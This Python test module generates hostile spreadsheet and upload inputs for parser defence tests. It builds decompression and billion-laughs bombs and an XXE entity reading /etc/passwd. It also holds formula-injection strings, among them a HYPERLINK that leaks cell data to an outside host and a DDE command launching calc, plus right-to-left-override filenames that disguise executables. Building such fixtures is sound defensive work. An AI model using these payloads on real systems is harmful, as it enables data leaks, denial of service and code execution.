"""The hostile-file corpus of issue 13, generated at test time (nothing big is kept on disk).

- xlsx decompression bombs and malformed workbooks (entity expansion, external entities, not a
  zip, a truncated zip, a cell longer than Excel allows, a sheet claiming a million rows);
- formula-like texts that a spreadsheet program would run;
- file names that hide what a file is;
- multipart bodies without newlines, streamed, for the upload memory checks.
"""

import io
import zipfile

import openpyxl

MiB = 1024 * 1024

# Texts that Excel/LibreOffice would run as a formula or DDE command if written as typed.
FORMULAS = [
    '=HYPERLINK("http://x?leak="&A2,"Bukti")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "\t=1",
    "\r=1",
]
# Those that survive the readers' trimming of surrounding whitespace (for round trips).
FORMULAS_WITHOUT_WHITESPACE = [f for f in FORMULAS if f == f.strip()]

# (name sent with a PDF, name it must be stored, downloaded and zipped under)
DANGEROUS_NAMES = [
    ("laporan.bat", "laporan.bat.pdf"),
    ("laporan.hta", "laporan.hta.pdf"),
    ("laporan.html", "laporan.html.pdf"),
    ("laporan.svg", "laporan.svg.pdf"),
    ("laporan.exe", "laporan.exe.pdf"),
    ("laporan.pdf.js", "laporan.pdf.js.pdf"),
    ("laporan\u202eexe.pdf", "laporanexe.pdf"),  # shows as "laporanfdp.exe"
    ("laporan\u202efdp.exe", "laporanfdp.exe.pdf"),  # shows as "laporanexe.pdf"
    ("lap\u2066oran\u2069 \u200ftahunan\u200e.pdf", "laporan tahunan.pdf"),
    ("lap\x00or\x07an.pdf", "laporan.pdf"),
]

SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _base_parts(sheet_title: str) -> list[tuple[str, bytes]]:
    """The parts of a minimal workbook with one sheet (openpyxl's own output)."""
    wb = openpyxl.Workbook()
    wb.active.title = sheet_title
    wb.active["A1"] = "kode"
    out = io.BytesIO()
    wb.save(out)
    with zipfile.ZipFile(out) as zf:
        return [(name, zf.read(name)) for name in zf.namelist()]


def xlsx_with_sheet_xml(chunks, *, sheet_title: str = "LKE") -> bytes:
    """A workbook whose first sheet's XML is ``chunks`` (bytes, streamed into the zip)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in _base_parts(sheet_title):
            if name != "xl/worksheets/sheet1.xml":
                zf.writestr(name, data)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            for chunk in chunks:
                part.write(chunk)
    return out.getvalue()


def _one_cell_sheet(text_chunks, *, extra_head=b""):
    yield (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + extra_head
        # A real sheet names its size first: openpyxl's load then stops reading there, and the
        # rest of the sheet is parsed only when its rows are read.
        + f'<worksheet xmlns="{SHEET_NS}"><dimension ref="A1"/><sheetData><row r="1">'.encode()
        + b'<c r="A1" t="inlineStr"><is><t>'
    )
    yield from text_chunks
    yield b"</t></is></c></row></sheetData></worksheet>"


def bomb_xlsx(inflated_bytes: int, *, sheet_title: str = "LKE") -> bytes:
    """A workbook whose one cell holds ``inflated_bytes`` of text: a few hundred KB zipped."""
    full, rest = divmod(inflated_bytes, MiB)
    chunk = b"A" * MiB
    return xlsx_with_sheet_xml(
        _one_cell_sheet([chunk] * full + [b"A" * rest]), sheet_title=sheet_title
    )


def long_cell_xlsx(chars: int = 40_000, *, sheet_title: str = "LKE") -> bytes:
    """One cell longer than Excel's 32,767 characters (small zipped and inflated)."""
    return xlsx_with_sheet_xml(_one_cell_sheet([b"B" * chars]), sheet_title=sheet_title)


def entity_expansion_xlsx(*, sheet_title: str = "LKE") -> bytes:
    """ "Billion laughs": nine levels of ten entity references in the sheet XML."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 10)
    ]
    head = ("<!DOCTYPE worksheet [" + "".join(entities) + "]>").encode()
    return xlsx_with_sheet_xml(
        _one_cell_sheet([b"&lol9;"], extra_head=head), sheet_title=sheet_title
    )


def external_entity_xlsx(*, sheet_title: str = "LKE") -> bytes:
    head = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return xlsx_with_sheet_xml(
        _one_cell_sheet([b"&xxe;"], extra_head=head), sheet_title=sheet_title
    )


def million_rows_xlsx(*, sheet_title: str = "LKE") -> bytes:
    """A sheet whose <dimension> claims A1:XFD1048576 and whose one cell sits on the last row."""
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{SHEET_NS}">'
        '<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr">'
        "<is><t>x</t></is></c></row></sheetData></worksheet>"
    ).encode()
    return xlsx_with_sheet_xml([xml], sheet_title=sheet_title)


def truncated_xlsx() -> bytes:
    whole = bomb_xlsx(1024)
    return whole[: len(whole) // 2]


MALFORMED_XLSX = {
    "entity_expansion": entity_expansion_xlsx,
    "external_entity": external_entity_xlsx,
    "not_a_zip": lambda **_kw: b"PK\x03\x04 bukan zip " * 100,
    "truncated_zip": lambda **_kw: truncated_xlsx(),
}


# --- multipart bodies, streamed ----------------------------------------------------------------

BOUNDARY = "----hostile-boundary-13"


class StreamedBody:
    """A request body made on the fly from parts (bytes, or (byte, count) runs), never held
    whole: what a client sending hundreds of MB looks like to the server."""

    def __init__(self, parts):
        self.parts = parts
        self.length = sum(p[1] if isinstance(p, tuple) else len(p) for p in parts)
        self._iter = self._chunks()
        self._buffer = bytearray()
        self.position = 0

    def _chunks(self):
        for part in self.parts:
            if isinstance(part, tuple):
                byte, count = part
                block = byte * (64 * 1024)
                while count > 0:
                    yield block[:count]
                    count -= len(block)
            else:
                yield part

    def _fill(self, enough):
        while not enough():
            chunk = next(self._iter, None)
            if chunk is None:
                return
            self._buffer += chunk

    def _take(self, size):
        data = bytes(self._buffer[:size])
        del self._buffer[:size]
        self.position += len(data)
        return data

    def read(self, size=-1):
        if size is None or size < 0:
            size = self.length - self.position
        self._fill(lambda: len(self._buffer) >= size)
        return self._take(size)

    def readline(self, size=-1):
        """Up to and including the next newline (or ``size`` bytes), as a socket file reads."""
        limit = self.length if size is None or size < 0 else size
        end = self._buffer.find(b"\n") + 1
        while not end and len(self._buffer) < limit:
            chunk = next(self._iter, None)
            if chunk is None:
                break
            start = len(self._buffer)
            self._buffer += chunk
            end = self._buffer.find(b"\n", start) + 1  # only the new bytes: no rescans
        end = end or len(self._buffer)
        return self._take(min(end, limit))


def file_part_without_newlines(size: int) -> list:
    """A multipart body with one file part of ``size`` bytes containing no newline."""
    head = (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="files"; filename="besar.pdf"\r\n'
        "Content-Type: application/pdf\r\n\r\n%PDF-1.4 "
    ).encode()
    return [head, (b"A", size), f"\r\n--{BOUNDARY}--\r\n".encode()]
